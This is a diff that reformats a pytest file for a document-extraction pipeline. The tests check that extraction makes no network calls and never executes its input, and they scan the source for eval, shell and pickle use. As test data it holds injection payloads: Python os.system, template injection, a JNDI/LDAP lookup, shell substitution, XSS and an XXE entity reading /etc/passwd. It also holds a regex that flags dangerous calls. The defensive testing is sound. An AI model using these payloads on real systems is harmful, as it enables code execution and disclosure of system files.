@@ -9,10 +9,10 @@ import socket
 from pathlib import Path
 
 import pytest
+from conftest import ROOT, SEED
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from conftest import ROOT, SEED
 from pipeline.readers.base import document_id
 
 SAFE = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")
@@ -76,7 +76,11 @@ def test_no_network_during_extraction(tmp_path, monkeypatch, nlp):
     monkeypatch.setattr(socket, "create_connection", forbidden)
     monkeypatch.setattr(socket, "getaddrinfo", forbidden)
     release = tmp_path / "release.md"
-    release.write_text(SEED.read_text(encoding="utf-8") + "\n\n![logo](https://exemple.fr/logo.png) [site](http://exemple.fr)\n", encoding="utf-8")
+    release.write_text(
+        SEED.read_text(encoding="utf-8")
+        + "\n\n![logo](https://exemple.fr/logo.png) [site](http://exemple.fr)\n",
+        encoding="utf-8",
+    )
     [outcome] = process([release], tmp_path / "out")
     assert outcome.status == "written", outcome.reason
 
@@ -90,20 +94,27 @@ def test_input_content_is_never_evaluated(tmp_path, nlp):
         f"__import__('os').system('touch {canary}')",
         f"{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}}",
         f"${{jndi:ldap://exemple.fr/a}} $(touch {canary}) `touch {canary}`",
-        "<script>alert(1)</script> <!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
+        '<script>alert(1)</script> <!ENTITY xxe SYSTEM "file:///etc/passwd">',
     ]
     release = tmp_path / "release.txt"
-    release.write_text(SEED.read_text(encoding="utf-8") + "\n\n" + "\n".join(payloads) + "\n", encoding="utf-8")
+    release.write_text(
+        SEED.read_text(encoding="utf-8") + "\n\n" + "\n".join(payloads) + "\n", encoding="utf-8"
+    )
     [outcome] = process([release], tmp_path / "out")
     assert outcome.status == "written", outcome.reason
     assert not canary.exists()
     text = json.loads(Path(outcome.output).read_text(encoding="utf-8"))["document"]["text"]
-    assert all(piece in text for piece in ("os').system('touch", "${jndi:ldap:", "$(touch", "<script>alert(1)</script>"))
+    assert all(
+        piece in text
+        for piece in ("os').system('touch", "${jndi:ldap:", "$(touch", "<script>alert(1)</script>")
+    )
 
 
 def test_pipeline_code_has_no_dynamic_evaluation_or_shell():
     """A guard on the package source: input must never reach eval, exec, pickle or a shell."""
-    forbidden = re.compile(r"\b(?:eval|exec)\(|\bpickle\b|\bmarshal\b|yaml\.load\(|\bos\.system\(|shell=True|\bsubprocess\b|urllib\.request|\brequests\b")
+    forbidden = re.compile(
+        r"\b(?:eval|exec)\(|\bpickle\b|\bmarshal\b|yaml\.load\(|\bos\.system\(|shell=True|\bsubprocess\b|urllib\.request|\brequests\b"
+    )
     offenders = []
     for path in sorted((ROOT / "pipeline").rglob("*.py")):
         for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
